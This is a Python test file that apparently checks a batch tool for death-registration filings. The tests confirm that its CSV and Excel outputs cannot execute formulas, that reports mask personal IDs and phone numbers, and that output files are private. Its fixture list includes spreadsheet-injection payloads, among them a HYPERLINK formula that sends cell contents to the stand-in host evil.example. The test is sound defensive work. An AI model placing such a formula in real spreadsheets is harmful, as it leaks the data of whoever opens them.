"""What a batch writes is inert, masked and private: results.csv/xlsx cannot run a formula,
messages in results, report and JUnit carry no full ID or phone, and every file and folder the
batch creates is its owner's only whatever the umask (SECURITY.md "Spreadsheets")."""

from __future__ import annotations

import csv
import os
import stat
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from agent.batch.run import BatchOptions, BatchResult, run_batch_with
from agent.runner.sync import run
from tests.security_batch.helpers import PROCEDURE, csv_text, folder_with_files, ok_engine, valid_row

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+1", "-2+3", "@SUM(1,1)", "＝1+1"]
#: IDs and a phone typed wrong: the validation messages quote them.
BAD_ID, BAD_PHONE = "0010380012345", "09123456789012"


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def _run(tmp_path: Path) -> tuple[BatchResult, Path]:
    folder = folder_with_files(tmp_path / "in")
    rows = [
        valid_row(**{"death.cause": f, "row_id": f"r{n}", "deceased.full_name": f"Nguyễn Văn {n}"})
        for n, f in zip("ABCDE", FORMULAS, strict=True)
    ]
    rows.append(valid_row(**{"deceased.personal_id": BAD_ID, "applicant.phone": BAD_PHONE, "row_id": "bad"}))
    source = folder / "rows.csv"
    source.write_text(csv_text(rows), encoding="utf-8")
    opts = BatchOptions(input_path=source, procedure=PROCEDURE, tty=False, settle_s=0)
    result = run(run_batch_with(opts, ok_engine))  # a loop of its own: a browser test may hold one
    return result, opts.out_dir


def test_results_csv_cannot_run_a_formula(tmp_path: Path) -> None:
    result, out = _run(tmp_path)
    assert result.counts["filed"] == 5 and result.counts["invalid"] == 1
    with (out / "results.csv").open(encoding="utf-8-sig", newline="") as fh:
        table = list(csv.DictReader(fh))
    causes = [r["death.cause"] for r in table[:5]]
    assert causes == ["'" + f for f in FORMULAS]
    starts = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
    assert not [c for row in table for c in row.values() if c.startswith(starts)]


def test_results_xlsx_holds_text_cells_only_with_the_exact_values(tmp_path: Path) -> None:
    _, out = _run(tmp_path)
    sheet = load_workbook(out / "results.xlsx").active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    column = header.index("death.cause")
    cells = [row[column] for row in sheet.iter_rows(min_row=2, max_row=6)]
    assert [c.value for c in cells] == FORMULAS  # exactly what was typed, no guard character
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value is not None} == {"s"}


def test_messages_in_results_report_and_junit_hold_no_full_id_or_phone(tmp_path: Path) -> None:
    _, out = _run(tmp_path)
    with (out / "results.csv").open(encoding="utf-8-sig", newline="") as fh:
        bad = next(r for r in csv.DictReader(fh) if r["row_id"] == "bad")
    assert bad["status"] == "invalid" and "personal ID" in bad["message"]
    assert bad["deceased.personal_id"] == BAD_ID  # the user's own column, echoed as typed
    report = (out / "report.html").read_text(encoding="utf-8")
    junit = (out / "junit.xml").read_text(encoding="utf-8")
    for text in (bad["message"], report, junit):
        assert BAD_ID not in text and BAD_PHONE not in text
        assert "001090012345" not in text and "0912345678" not in text  # the example's own values
    assert "**********345" in bad["message"] or "*" * 11 + "012" in bad["message"]
    ET.fromstring(junit.encode())  # still well-formed


def test_every_file_and_folder_the_batch_creates_is_private(tmp_path: Path, umask_022: None) -> None:
    _, out = _run(tmp_path)
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    made = [p for p in out.rglob("*")]
    names = {p.name for p in made}
    assert {"results.csv", "results.xlsx", "report.html", "junit.xml", "ledger.sqlite"} <= names
    for path in made:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o700 if path.is_dir() else 0o600), f"{path.relative_to(out)}: {oct(mode)}"
    # …and the input's own folder is left as it was.
    assert stat.S_IMODE((tmp_path / "in").stat().st_mode) == 0o755


def test_an_existing_ledger_and_report_are_made_private_on_the_next_run(
    tmp_path: Path, umask_022: None
) -> None:
    _, out = _run(tmp_path)
    for name in ("ledger.sqlite", "report.html", "junit.xml", "results.csv"):
        os.chmod(out / name, 0o644)
    os.chmod(out, 0o755)
    _run(tmp_path)
    for name in ("ledger.sqlite", "report.html", "junit.xml", "results.csv"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600, name
